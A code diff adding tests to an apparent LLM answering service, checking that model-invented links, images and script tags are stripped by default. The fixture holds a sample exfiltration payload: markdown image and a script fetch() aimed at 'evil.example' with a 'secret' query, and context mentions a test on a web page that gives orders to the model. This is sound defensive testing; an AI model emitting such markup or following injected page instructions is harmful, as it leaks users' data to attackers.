@@ -1,5 +1,6 @@
 import { randomUUID } from 'node:crypto';
 import { answer, failWith, messageTexts, toolCall, type ChatBehaviour } from '@quire/scripted-providers';
+import { threadSchema } from '@quire/shared/contracts';
 import { freePorts } from '@quire/stack/stores';
 import { eventually } from '@quire/testkit';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
@@ -151,6 +152,45 @@ it('a page that gives orders stays quoted, widens no tools, and brings no instru
   expect(quire.toolAnswers(1)).toEqual([expect.stringContaining('no such tool')]);
   for (const { tools } of quire.sent()) expect(tools).toMatchObject([{ function: { name: SEARCH } }]);
   for (const secret of [key, 'quoted material']) expect(raw).not.toContain(secret);
+});
+
+describe('of the links, images and HTML that a model makes up', () => {
+  const evil = 'https://evil.example/p.png?q=secret';
+  const source = 'https://book.example/docs/nodes';
+  const written = `Nodes ![x](${evil}) publish [1] <script>fetch("${evil}")</script>[here](${evil}), see [it](${source}).`;
+  const safe = `Nodes x publish [1] &lt;script>fetch("\`${evil}\`")&lt;/script>here, see [it](${source}).`;
+  const storedIn = async (session_id: string) => {
+    const response = await fetch(`${quire.gateways[0] ?? ''}/threads/${session_id}`);
+    return threadSchema.parse(await response.json()).messages.at(-1)?.content;
+  };
+
+  it.each([
+    ['no deltas, JSON answer or thread holds any by default', {}, safe],
+    [
+      'deltas, JSON answer and thread hold all where the caller asks for raw markup',
+      { markup: 'raw' },
+      written,
+    ],
+  ])('%s', async (_, asked, text) => {
+    quire.providers.chat.byDefault(answer(written, { tokenMs: 1 }));
+    const markup_removed = text === safe ? { links: 2, images: 1, html: 2 } : undefined;
+    const { shown, raw, response } = await quire.streamOf({ message: QUESTION, ...asked });
+    expect(shown).toBe(text);
+    expect(raw.includes(`](${evil})`)).toBe(text === written);
+    const json = await quire.answerTo({ message: QUESTION, ...asked });
+    for (const { answer: said, session_id, sources, metadata } of [response, json]) {
+      expect(said).toBe(text);
+      expect(sources).toMatchObject([{ source_url: expect.stringContaining(source) as string }]);
+      expect(metadata.markup_removed).toEqual(markup_removed);
+      expect(await storedIn(session_id)).toBe(text);
+    }
+  });
+
+  it('an answer from selected text holds none, not even a link to the book', async () => {
+    quire.providers.chat.byDefault(answer(`Topics [it](${source}) [1].`));
+    const response = await quire.answerTo({ message: QUESTION, selected_text: pages.Nodes });
+    expect(response).toMatchObject({ answer: 'Topics it [1].', metadata: { markup_removed: { links: 1 } } });
+  });
 });
 
 it('every call is on the account: in the answer, in Postgres, and by tenant and model in the metrics', async () => {
